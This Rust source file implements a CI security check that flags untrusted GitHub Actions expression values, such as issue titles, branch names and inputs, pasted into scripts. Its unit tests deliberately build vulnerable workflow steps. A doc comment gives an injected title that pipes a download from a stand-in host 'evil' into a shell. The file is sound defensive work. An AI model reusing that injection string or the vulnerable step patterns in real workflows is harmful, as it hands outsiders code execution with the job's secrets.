//! WF-015: no value an outsider may choose is expanded with `${{ }}` into code.
//!
//! GitHub pastes an expression's value into the text of a `run:` script (or of a code-taking
//! action input such as `actions/github-script`'s `script:`) before the shell or node sees
//! it. An issue title, a branch name or a commit message is chosen by whoever opens the issue
//! or pushes the branch, so a title such as `"; curl evil | sh; "` becomes code running with
//! the job's token and secrets. Passed through `env:` the same value is data: the script
//! reads `"$TITLE"`.
//!
//! Each context whose value flows into the expansion is judged (a context only compared,
//! `a == 'x'`, tested with `contains()`, or left of `&&` yields no text of its own):
//! - known attacker-controlled: the listed `github.event.*` fields (titles, bodies, branch
//!   names, labels, logins, commit messages, author names), the whole `github.event`,
//!   `github.head_ref`, and `inputs.*` of a workflow that takes inputs, unless the input is
//!   typed `boolean` or `number`;
//! - fixed, never reported: secrets, `runner`/`job`/`strategy`/`vars`, step and job results,
//!   GitHub's fixed `github.*` values, and event fields that are numbers, ids, hashes, states,
//!   timestamps or charset-limited names;
//! - everything else cannot be shown to be fixed and is reported too: step and job outputs,
//!   other event fields, `env.*` not set to literal text in the workflow, `matrix.*` not listed
//!   as literal text. An `env.*` or `matrix.*` value set from an attacker-controlled context
//!   is reported as that context.
//!
//! Composite actions (`action.yml`/`action.yaml` with `runs.using: composite`, anywhere in
//! the repository's files) are judged too: their steps run inside the calling job, so an
//! expansion in a step's `run:` is the same injection. There every `inputs.*` (and
//! `github.event.inputs.*`) is attacker-controlled: action inputs have no type and the caller
//! may pass any text, an issue title included, which the action cannot see; `env.*` resolves
//! through the step's own `env:` only, and `matrix.*` (the caller's) cannot be shown fixed.
//! An action file that cannot be parsed is reported, since none of its steps was judged.
//!
//! This is pattern matching over the expression text, not an evaluator; what must stay true:
//! every attacker-controlled context in a code sink is reported, at the line it is on.

use std::sync::LazyLock;

use bundle_core::ops::report::Severity;
use regex::Regex;

use bundle_core::ops::report::Location;

use super::{Control, Outcome, at, no_workflows, unaudited_actions};
use crate::context::Context;
use crate::expr;
use crate::workflow::{self, Step, StepRef, Var};

pub(super) const CONTROL: Control = Control {
    id: "WF-015",
    title: "Untrusted input is not expanded into scripts",
    severity: Severity::High,
    run,
};

/// Actions whose named inputs are code (a script body, an expression evaluated as code).
const CODE_INPUTS: [(&str, &[&str]); 5] = [
    ("actions/github-script", &["script"]),
    ("amadevus/pwsh-script", &["script"]),
    ("jannekem/run-python-script-action", &["script"]),
    ("cardinalby/js-eval-action", &["expression"]),
    ("addnab/docker-run-action", &["options", "run"]),
];

/// Event fields an outside contributor chooses (normalized: lowercase, indexes as `.*`).
static UNTRUSTED_EVENT: LazyLock<Regex> = LazyLock::new(|| {
    let fields = [
        r"issue\.(?:title|body)",
        r"pull_request\.(?:title|body|head\.ref|head\.label)",
        r"(?:comment|review|review_comment)\.body",
        r"pages\.\*\.page_name",
        r"(?:commits\.\*|head_commit|workflow_run\.head_commit)\.(?:message|(?:author|committer)(?:\.[a-z_]+)?)",
        r"pusher\.(?:name|email)",
        r"workflow_run\.(?:head_branch|display_title|pull_requests\.\*\.head\.ref)",
        r"discussion\.(?:title|body)",
        r"(?:.+\.)?user\.login",
        r"(?:.+\.)?head\.(?:ref|label)",
        r"(?:.+\.)?labels?(?:\.\*)?\.name",
        r"(?:.+\.)?(?:title|body|message)",
    ]
    .join("|");
    Regex::new(&format!(r"^github\.event\.(?:{fields})$")).expect("static regex")
});

/// Event objects that hold attacker-chosen text (a title, a body, a branch name, a login):
/// `toJSON(github.event.issue)` pastes all of it.
const EVENT_OBJECTS: [&str; 15] = [
    "issue",
    "pull_request",
    "comment",
    "review",
    "review_comment",
    "discussion",
    "head_commit",
    "commits",
    "pages",
    "workflow_run",
    "pusher",
    "label",
    "labels",
    "head",
    "*",
];

/// Last segments of event fields GitHub fills with numbers, ids, hashes, states, timestamps
/// or names limited to `[A-Za-z0-9._-]` (repository names, logins of the actor).
fn fixed_event_field(last: &str) -> bool {
    const FIXED: [&str; 24] = [
        "number",
        "id",
        "node_id",
        "sha",
        "before",
        "after",
        "author_association",
        "state",
        "draft",
        "merged",
        "locked",
        "private",
        "fork",
        "forced",
        "created",
        "deleted",
        "action",
        "size",
        "full_name",
        "run_number",
        "run_attempt",
        "conclusion",
        "status",
        "default_branch",
    ];
    FIXED.contains(&last)
        || last.ends_with("_sha")
        || last.ends_with("_id")
        || last.ends_with("_at")
        || last.ends_with("_count")
}

/// `github.*` values GitHub sets that an outsider cannot shape into code.
const FIXED_GITHUB: [&str; 34] = [
    "sha",
    "ref",
    "ref_name",
    "ref_type",
    "ref_protected",
    "repository",
    "repository_id",
    "repository_owner",
    "repository_owner_id",
    "repositoryurl",
    "run_id",
    "run_number",
    "run_attempt",
    "workflow",
    "workflow_ref",
    "workflow_sha",
    "job",
    "event_name",
    "server_url",
    "api_url",
    "graphql_url",
    "token",
    "action",
    "action_path",
    "action_ref",
    "action_repository",
    "action_status",
    "workspace",
    "path",
    "env",
    "output",
    "retention_days",
    "actor",
    "triggering_actor",
];

/// A reference to a context, as written: `github.event.issue.title`, `env['X']`, `steps.a.outputs.b`.
static CONTEXT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)(?:^|[^A-Za-z0-9_.\-])((?:github|env|vars|steps|needs|inputs|matrix|secrets|runner|job|jobs|strategy)(?:\s*\.\s*(?:[A-Za-z_][A-Za-z0-9_-]*|\*)|\s*\[[^\]]*\])*)",
    )
    .expect("static regex")
});

/// Functions whose result is a boolean or a hash, never the text of their arguments.
const NO_FLOW_FUNCTIONS: [&str; 8] = [
    "contains",
    "startswith",
    "endswith",
    "hashfiles",
    "success",
    "failure",
    "always",
    "cancelled",
];

/// The body with every string literal's content blanked (same byte offsets), so that words
/// and operators inside `'...'` are not read as contexts.
fn mask_strings(body: &str) -> String {
    let mut out = String::with_capacity(body.len());
    let mut in_string = false;
    for c in body.chars() {
        if c == '\'' {
            in_string = !in_string;
            out.push(c);
        } else if in_string {
            out.extend(std::iter::repeat_n(' ', c.len_utf8()));
        } else {
            out.push(c);
        }
    }
    out
}

/// The unclosed `(` before `start`, if any.
fn open_paren(masked: &str, start: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, b) in masked.as_bytes()[..start].iter().enumerate().rev() {
        match b {
            b')' => depth += 1,
            b'(' if depth > 0 => depth -= 1,
            b'(' => return Some(i),
            _ => {}
        }
    }
    None
}

/// Where the function name before the `(` at `open` starts (`open` itself when none).
fn name_start(masked: &str, open: usize) -> usize {
    let head = masked[..open].trim_end();
    head.char_indices()
        .rev()
        .find(|(_, c)| !c.is_ascii_alphanumeric())
        .map_or(0, |(p, c)| p + c.len_utf8())
}

/// Widens a context to the operand that holds it: `fromJSON(ctx).field` is compared as a
/// whole in `fromJSON(ctx).field == 'x'`.
fn operand(masked: &str, mut start: usize, mut end: usize) -> (usize, usize) {
    let bytes = masked.as_bytes();
    loop {
        let after = masked[end..].trim_start();
        let (Some(')'), Some(open)) = (after.chars().next(), open_paren(masked, start)) else {
            return (start, end);
        };
        end = masked.len() - after.len() + 1;
        start = name_start(masked, open);
        // A property chain on the call's result: `.field`, `[0]`.
        while end < bytes.len() && (bytes[end] == b'.' || bytes[end] == b'[') {
            let close = if bytes[end] == b'[' { b']' } else { 0 };
            end += 1;
            while end < bytes.len()
                && (if close == b']' {
                    bytes[end - 1] != b']'
                } else {
                    bytes[end].is_ascii_alphanumeric()
                        || bytes[end] == b'_'
                        || bytes[end] == b'-'
                        || bytes[end] == b'*'
                })
            {
                end += 1;
            }
        }
    }
}

/// Whether the context at `start..end` of the masked body yields text into the result.
fn flows(masked: &str, context_start: usize, end: usize) -> bool {
    let (start, end) = operand(masked, context_start, end);
    let after = masked[end..].trim_start();
    if ["==", "!=", "<", ">", "&&"]
        .iter()
        .any(|op| after.starts_with(op))
    {
        return false;
    }
    let before = masked[..start].trim_end();
    if ["==", "!=", "<", ">", "<=", ">=", "!", "&&"]
        .iter()
        .any(|op| before.ends_with(op))
        && !before.ends_with("&&")
    {
        return false;
    }
    // The functions whose parentheses enclose the context.
    let mut depth = 0usize;
    let bytes = masked.as_bytes();
    for i in (0..context_start).rev() {
        match bytes[i] {
            b')' => depth += 1,
            b'(' if depth > 0 => depth -= 1,
            b'(' => {
                let name = masked[name_start(masked, i)..i].trim().to_ascii_lowercase();
                if NO_FLOW_FUNCTIONS.contains(&name.as_str()) {
                    return false;
                }
            }
            _ => {}
        }
    }
    true
}

/// A context in canonical form: lowercase, no spaces, every index as `.key` or `.*`.
fn normalize(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut rest = raw;
    while let Some(c) = rest.chars().next() {
        if c.is_whitespace() {
            rest = &rest[c.len_utf8()..];
        } else if c == '[' {
            let Some(close) = rest.find(']') else {
                out.push_str(&rest.to_ascii_lowercase());
                break;
            };
            let inner = rest[1..close].trim();
            let key = inner
                .strip_prefix('\'')
                .and_then(|k| k.strip_suffix('\''))
                .or_else(|| inner.strip_prefix('"').and_then(|k| k.strip_suffix('"')));
            out.push('.');
            match key {
                Some(key) => out.push_str(&key.to_ascii_lowercase()),
                None => out.push('*'),
            }
            rest = &rest[close + 1..];
        } else {
            out.push(c.to_ascii_lowercase());
            rest = &rest[c.len_utf8()..];
        }
    }
    out
}

/// How far a context's value can be trusted.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum Trust {
    /// Cannot be shown to be fixed.
    Unknown(String),
    /// Chosen by an outsider (or by whoever dispatches the workflow).
    Untrusted(String),
}

/// Where an expression sits, to resolve `inputs`, `env` and `matrix`.
#[derive(Clone, Copy)]
enum Scope<'a> {
    /// A step of a workflow's job.
    Job(StepRef<'a>),
    /// A step of a composite action: the calling job, its workflow and its `with:` values
    /// are not known here.
    Action(&'a Step),
}

impl Scope<'_> {
    /// The nearest `env:` entry named `name` (step, then job, then workflow).
    fn env(&self, name: &str) -> Option<&Var> {
        let blocks = match self {
            Scope::Job(step) => step.env_blocks(),
            Scope::Action(step) => [step.env.as_slice(), &[], &[]],
        };
        blocks.into_iter().find_map(|vars| {
            vars.iter()
                .rev()
                .find(|v| v.name.eq_ignore_ascii_case(name))
        })
    }

    /// The worst trust of the contexts that flow out of `text`'s expressions.
    fn worst_in(&self, text: &str, depth: usize) -> Option<Trust> {
        expr::expressions(text)
            .iter()
            .flat_map(|e| flowing_contexts(e.body))
            .filter_map(|(_, raw)| {
                self.judge(&normalize(raw), depth + 1).map(|t| match t {
                    Trust::Untrusted(via) if via.is_empty() => {
                        Trust::Untrusted(format!(" (set from `{}`)", raw.trim()))
                    }
                    other => other,
                })
            })
            .max()
    }

    /// The trust of one normalized context, `None` when it is fixed.
    fn judge(&self, context: &str, depth: usize) -> Option<Trust> {
        if depth > 4 {
            return Some(Trust::Unknown(
                "set through too many indirections".to_owned(),
            ));
        }
        let parts: Vec<&str> = context.split('.').collect();
        let unknown = |why: &str| Some(Trust::Unknown(why.to_owned()));
        match parts[0] {
            "secrets" | "runner" | "job" | "jobs" | "strategy" | "vars" => None,
            "needs" if parts.get(2) == Some(&"result") => None,
            "needs" => unknown("a job's output, which may carry untrusted data"),
            "steps" if matches!(parts.get(2), Some(&"outcome" | &"conclusion")) => None,
            "steps" => unknown("a step's output, which may carry untrusted data"),
            "inputs" => self.input(parts.get(1).copied()),
            "github" => self.github(context, &parts),
            "env" => match parts.get(1) {
                Some(name) if name.starts_with("github_") || name.starts_with("runner_") => None,
                Some(name) => match self.env(name) {
                    Some(var) if var.value.contains("${{") => self.worst_in(&var.value, depth),
                    Some(_) => None,
                    None => unknown("not set to literal text in the workflow (e.g. `$GITHUB_ENV`)"),
                },
                None => unknown("the whole `env` context"),
            },
            "matrix" => match self.matrix_values(&parts[1..]) {
                Err(why) => unknown(why),
                Ok(None) => None,
                Ok(Some(values)) => values
                    .iter()
                    .filter(|v| v.contains("${{"))
                    .filter_map(|v| self.worst_in(v, depth))
                    .max()
                    .map(|t| match t {
                        Trust::Unknown(_) => {
                            Trust::Unknown("a matrix value computed by an expression".to_owned())
                        }
                        untrusted @ Trust::Untrusted(_) => untrusted,
                    }),
            },
            _ => unknown("a context this check cannot show to be fixed"),
        }
    }

    /// The values the job's matrix gives `path`: `Ok(None)` when the job has no matrix (it
    /// cannot run with `matrix.*`), `Err` when the matrix is the caller's (an action's).
    fn matrix_values(&self, path: &[&str]) -> Result<Option<Vec<String>>, &'static str> {
        match self {
            Scope::Job(step) => Ok(step.job.matrix_values(path)),
            Scope::Action(_) => Err("a matrix value of the calling job, not visible here"),
        }
    }

    /// `inputs.<name>` (or `github.event.inputs.<name>`). In a workflow, what whoever
    /// dispatches or calls it chooses, unless typed `boolean` or `number`; in a composite
    /// action, always: its inputs have no type, and the caller may pass any text (an issue
    /// title included).
    fn input(&self, name: Option<&str>) -> Option<Trust> {
        let Scope::Job(step) = self else {
            return Some(Trust::Untrusted(String::new()));
        };
        let takes_inputs = step
            .workflow
            .triggers
            .iter()
            .any(|t| t.text == "workflow_dispatch" || t.text == "workflow_call");
        if !takes_inputs {
            return None;
        }
        match name {
            Some(name) if step.workflow.typed_inputs.contains(name) => None,
            _ => Some(Trust::Untrusted(String::new())),
        }
    }

    fn github(&self, context: &str, parts: &[&str]) -> Option<Trust> {
        if context == "github.head_ref" || context == "github.event" {
            return Some(Trust::Untrusted(String::new()));
        }
        if parts.get(1) == Some(&"event") {
            if parts.get(2) == Some(&"inputs") {
                return self.input(parts.get(3).copied());
            }
            if UNTRUSTED_EVENT.is_match(context) || EVENT_OBJECTS.contains(&parts[parts.len() - 1])
            {
                return Some(Trust::Untrusted(String::new()));
            }
            let last = parts.last().copied().unwrap_or_default();
            return (!fixed_event_field(last)).then(|| {
                Trust::Unknown("an event field this check cannot show to be fixed".to_owned())
            });
        }
        let field = parts.get(1).copied().unwrap_or_default();
        (!FIXED_GITHUB.contains(&field)).then(|| {
            Trust::Unknown("a `github` value this check cannot show to be fixed".to_owned())
        })
    }
}

/// The contexts whose value flows out of one expression body: byte offset and text.
fn flowing_contexts(body: &str) -> Vec<(usize, &str)> {
    let masked = mask_strings(body);
    CONTEXT
        .captures_iter(&masked)
        .filter_map(|c| c.get(1))
        .filter(|m| flows(&masked, m.start(), m.end()))
        .map(|m| (m.start(), &body[m.start()..m.end()]))
        .collect()
}

/// The 1-based line where the `nth` occurrence (0-based) of `needle` in a scalar whose
/// content starts on `first_line` sits in the file: folded scalars (`>`) lose their line
/// breaks, the file does not.
fn source_line(source: &str, first_line: usize, needle: &str, nth: usize) -> Option<usize> {
    let start = match first_line {
        0 | 1 => 0,
        n => source.match_indices('\n').nth(n - 2)?.0 + 1,
    };
    let (at, _) = source[start..].match_indices(needle).nth(nth)?;
    Some(first_line.max(1) + source[start..start + at].matches('\n').count())
}

/// The code sinks of a step: text, first line, and how to name the place.
fn sinks(step: &Step) -> Vec<(&str, usize, String)> {
    let mut out = Vec::new();
    if let Some(run) = &step.run {
        out.push((run.text.as_str(), run.line, "`run:`".to_owned()));
    }
    for (action, inputs) in CODE_INPUTS {
        if step.is_action(action) {
            for input in inputs {
                if let Some(v) = step.input(input) {
                    out.push((v.value.as_str(), v.line, format!("`{input}:` of {action}")));
                }
            }
        }
    }
    out
}

/// One file's steps: where they are, the text to place findings in, and who runs each.
struct Audited<'a> {
    path: &'a str,
    source: &'a str,
    steps: Vec<(Scope<'a>, &'a Step, String)>,
}

/// Reports every context of a code sink of `file`'s steps that cannot be shown fixed.
fn judge_steps(file: &Audited<'_>, findings: &mut Vec<Location>) {
    for (scope, step, who) in &file.steps {
        for (text, first_line, place) in sinks(step) {
            for e in expr::expressions(text) {
                for (offset, raw) in flowing_contexts(e.body) {
                    let nth = text[..e.offset + offset].matches(raw).count();
                    let Some(trust) = scope.judge(&normalize(raw), 0) else {
                        continue;
                    };
                    let line = source_line(file.source, first_line, raw, nth)
                        .unwrap_or_else(|| expr::line_at(text, first_line, e.offset + offset));
                    let why = match trust {
                        Trust::Untrusted(via) => via,
                        Trust::Unknown(why) => format!(" ({why})"),
                    };
                    findings.push(at(
                        file.path,
                        Some(line),
                        format!(
                            "{who} expands `{raw}`{why} into {place}; \
                             pass it through `env:` and read the variable"
                        ),
                    ));
                }
            }
        }
    }
}

fn run(cx: &Context) -> Outcome {
    let actions = cx.actions();
    if cx.workflows().parsed.is_empty()
        && actions.parsed.is_empty()
        && actions.invalid.is_empty()
        && actions.unlisted.is_none()
    {
        return no_workflows(cx);
    }
    let by_workflow = cx.workflows().parsed.iter().map(|wf| Audited {
        path: &wf.path,
        source: &wf.source,
        steps: workflow::steps([wf])
            .map(|s| (Scope::Job(s), s.step, format!("job `{}`", s.job.id)))
            .collect(),
    });
    let by_action = actions.parsed.iter().map(|action| Audited {
        path: &action.path,
        source: &action.source,
        steps: action
            .steps
            .iter()
            .map(|s| (Scope::Action(s), s, "the composite action".to_owned()))
            .collect(),
    });
    let mut findings = Vec::new();
    for file in by_workflow.chain(by_action) {
        judge_steps(&file, &mut findings);
    }
    findings.extend(unaudited_actions(actions, |_| true));
    Outcome::from_findings(findings, "no untrusted context is expanded into a script")
}

#[cfg(test)]
mod tests {
    use super::{flowing_contexts, normalize};
    use crate::controls::testkit::{Repo, assert_fail_at, assert_pass};

    const WF: &str = ".github/workflows/triage.yml";

    fn workflow(on: &str, steps: &str) -> String {
        format!(
            "on: {on}\npermissions:\n  contents: read\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n{steps}"
        )
    }

    fn run_on(on: &str, steps: &str) -> super::Outcome {
        let repo = Repo::compliant();
        repo.write(WF, &workflow(on, steps));
        repo.run("WF-015")
    }

    #[test]
    fn passes_on_the_compliant_fixture() {
        assert_pass(&Repo::compliant().run("WF-015"));
    }

    #[test]
    fn fails_on_an_issue_title_in_run() {
        let outcome = run_on(
            "issues",
            "      - run: |\n          echo start\n          echo \"${{ github.event.issue.title }}\"\n",
        );
        assert_fail_at(&outcome, WF, Some(10));
        assert_eq!(
            outcome.message,
            "job `triage` expands `github.event.issue.title` into `run:`; \
             pass it through `env:` and read the variable"
        );
    }

    #[test]
    fn fails_on_the_pusher_name_in_git_config() {
        let outcome = run_on(
            "push",
            "      - run: git config --global user.name \"${{ github.event.pusher.name }}\"\n",
        );
        assert_fail_at(&outcome, WF, Some(8));
        assert!(outcome.message.contains("`github.event.pusher.name`"));
    }

    #[test]
    fn fails_in_a_github_script() {
        let outcome = run_on(
            "pull_request_target",
            "      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        with:\n          script: |\n            const t = \"${{ github.event.pull_request.title }}\";\n",
        );
        assert_fail_at(&outcome, WF, Some(11));
        assert_eq!(
            outcome.message,
            "job `triage` expands `github.event.pull_request.title` into `script:` of \
             actions/github-script; pass it through `env:` and read the variable"
        );
    }

    #[test]
    fn passes_when_the_values_go_through_env() {
        let steps = "      - env:\n          TITLE: ${{ github.event.issue.title }}\n          PUSHER: ${{ github.event.pusher.name }}\n        run: |\n          echo \"$TITLE\"\n          git config --global user.name \"$PUSHER\"\n";
        assert_pass(&run_on("issues", steps));
        let script = "      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea\n        env:\n          TITLE: ${{ github.event.issue.title }}\n        with:\n          script: console.log(process.env.TITLE)\n";
        assert_pass(&run_on("issues", script));
    }

    #[test]
    fn passes_on_trusted_contexts() {
        assert_pass(&run_on(
            "push",
            "      - run: echo ${{ github.sha }} ${{ github.ref }} ${{ github.event.issue.number }}\n",
        ));
    }

    #[test]
    fn inputs_count_only_where_the_workflow_takes_them() {
        let steps = "      - run: ./deploy ${{ inputs.target }} ${{ github.event.inputs.env }}\n";
        let outcome = run_on("workflow_dispatch", steps);
        assert_fail_at(&outcome, WF, Some(8));
        assert_eq!(outcome.locations.len(), 2);
        assert_pass(&run_on("push", steps));
        let typed = "\n  workflow_dispatch:\n    inputs:\n      target: {type: boolean}\n  workflow_call:\n    inputs:\n      env: {type: number}";
        assert_pass(&run_on(typed, steps));
        let outcome = run_on(&typed.replace("type: number", "type: string"), steps);
        assert_eq!(outcome.locations.len(), 1);
        assert!(outcome.message.contains("`github.event.inputs.env`"));
    }

    const ACTION: &str = ".github/actions/greet/action.yml";

    fn composite(steps: &str) -> String {
        format!(
            "name: greet\ninputs:\n  who:\n    description: whom to greet\nruns:\n  using: composite\n  steps:\n{steps}"
        )
    }

    /// A composite action's inputs are the caller's text: expanded into `run:` they are
    /// reported at their line, with no workflow in the repository too.
    #[test]
    fn fails_on_an_input_in_a_composite_action() {
        let repo = Repo::compliant();
        repo.remove(".github/workflows");
        repo.write(
            ACTION,
            &composite(
                "    - shell: bash\n      run: |\n        echo start\n        echo \"Hello ${{ inputs.who }}\"\n",
            ),
        );
        let outcome = repo.run("WF-015");
        assert_fail_at(&outcome, ACTION, Some(11));
        assert_eq!(
            outcome.message,
            "the composite action expands `inputs.who` into `run:`; \
             pass it through `env:` and read the variable"
        );
    }

    #[test]
    fn passes_when_a_composite_action_reads_inputs_through_env() {
        let repo = Repo::compliant();
        repo.write(
            ACTION,
            &composite(
                "    - shell: bash\n      env:\n        WHO: ${{ inputs.who }}\n      run: echo \"Hello $WHO\" ${{ github.sha }}\n",
            ),
        );
        assert_pass(&repo.run("WF-015"));
        // A JavaScript action runs no step of its own: nothing to judge.
        repo.write(
            ACTION,
            "name: x\nruns:\n  using: node20\n  main: index.js\n  steps:\n    - run: echo ${{ inputs.who }}\n",
        );
        assert_pass(&repo.run("WF-015"));
    }

    /// The toolkit's own composite action (what an adopting repository's workflow `uses:`)
    /// passes its inputs through `env:`: nothing to report.
    #[test]
    fn the_toolkits_composite_action_passes() {
        let repo = Repo::compliant();
        let action = concat!(env!("CARGO_MANIFEST_DIR"), "/../../action.yml");
        let text = fs_err::read_to_string(action).unwrap();
        assert!(text.contains("using: composite") && text.contains("${{ inputs.command }}"));
        repo.write("action.yml", &text);
        assert_pass(&repo.run("WF-015"));
        // The same action pasting its input into the script is reported.
        repo.write(
            "action.yml",
            &text.replacen("case \"$TOOL\" in", "case \"${{ inputs.command }}\" in", 1),
        );
        let outcome = repo.run("WF-015");
        assert_eq!(outcome.locations.len(), 1, "{outcome:?}");
        assert_eq!(outcome.locations[0].file, "action.yml");
    }

    #[test]
    fn an_action_file_that_cannot_be_parsed_is_reported() {
        let repo = Repo::compliant();
        repo.write(ACTION, "runs:\n  using: composite\n  steps: [\n");
        let outcome = repo.run("WF-015");
        assert_eq!(outcome.locations.len(), 1, "{outcome:?}");
        assert_eq!(outcome.locations[0].file, ACTION);
        assert!(
            outcome.message.contains("cannot be read as an action"),
            "{}",
            outcome.message
        );
    }

    /// Whether `context`, expanded alone into a `run:` of an `issues` workflow, is reported.
    fn reported(context: &str) -> bool {
        let outcome = run_on(
            "[issues, workflow_dispatch]",
            &format!("      - run: echo ${{{{ {context} }}}}\n"),
        );
        !outcome.locations.is_empty()
    }

    #[test]
    fn recognizes_every_listed_context() {
        let untrusted = [
            "github.event.issue.body",
            "github.event.pull_request.body",
            "github.event.pull_request.head.ref",
            "github.event.pull_request.head.label",
            "github.event.comment.body",
            "github.event.review.body",
            "github.event.review_comment.body",
            "github.event.pages[0].page_name",
            "github.event.pages.*.page_name",
            "github.event.commits[0].message",
            "github.event.commits.*.author.name",
            "github.event.commits[1].author.email",
            "github.event.head_commit.message",
            "github.event.head_commit.author.email",
            "github.event.pusher.email",
            "github.event.workflow_run.head_branch",
            "github.event.workflow_run.head_commit.message",
            "github.event.workflow_run.display_title",
            "github.event.discussion.title",
            "github.event.discussion.body",
            "github.event.issue.user.login",
            "github.event.pull_request.user.login",
            "github.event.label.name",
            "github.event.pull_request.labels[0].name",
            "github.event['issue']['title']",
            "github.event[\"issue\"].title",
            "toJSON(github.event)",
            "toJSON(github.event.issue)",
            "github.head_ref",
            "GITHUB.HEAD_REF",
            "inputs.target",
            "github.event.inputs.target",
        ];
        for context in untrusted {
            assert!(reported(context), "{context}");
        }
        let fixed = [
            "github.sha",
            "github.ref_name",
            "github.repository",
            "github.event.issue.number",
            "github.event.comment.author_association",
            "github.event.pull_request.head.sha",
            "github.event.pull_request.head.repo.full_name",
            "github.event.workflow_run.head_sha",
            "github.event.comment.created_at",
            "secrets.TOKEN",
            "runner.temp",
            "vars.REGION",
            "steps.build.outcome",
            "needs.test.result",
            "github.event.issue.title == 'x'",
            "contains(github.event.issue.title, 'x')",
            "github.event.issue.title && 'yes' || 'no'",
            "!github.event.issue.title",
        ];
        for context in fixed {
            assert!(!reported(context), "{context}");
        }
    }

    /// Odd or broken expression text never panics (byte offsets, unclosed brackets and
    /// strings, non-ASCII names).
    #[test]
    fn odd_expressions_do_not_panic() {
        for body in [
            " github.event[ ",
            " github.event['issue ",
            " é(github.head_ref).x == 'y' ",
            " fromJSON(github.event.issue.title)[0].a ",
            " ((((github.head_ref ",
            " github.head_ref)))) ",
            " 'unclosed github.head_ref ",
            " ñ github.event.issue.title ",
        ] {
            for (_, raw) in flowing_contexts(body) {
                normalize(raw);
            }
        }
        assert_eq!(normalize("github.event["), "github.event[");
        let found: Vec<&str> = flowing_contexts(" é(github.head_ref) ")
            .into_iter()
            .map(|(_, c)| c)
            .collect();
        assert_eq!(found, ["github.head_ref"]);
    }

    #[test]
    fn normalizes_index_forms() {
        assert_eq!(
            normalize("github.event['issue'][\"Title\"]"),
            "github.event.issue.title"
        );
        assert_eq!(
            normalize("github.event.commits[0].message"),
            "github.event.commits.*.message"
        );
        assert_eq!(normalize("steps . a.outputs[*]"), "steps.a.outputs.*");
        let body = " format('{0} github.head_ref', github.event.issue.title) ";
        let found: Vec<&str> = flowing_contexts(body).into_iter().map(|(_, c)| c).collect();
        assert_eq!(found, ["github.event.issue.title"]);
    }
}
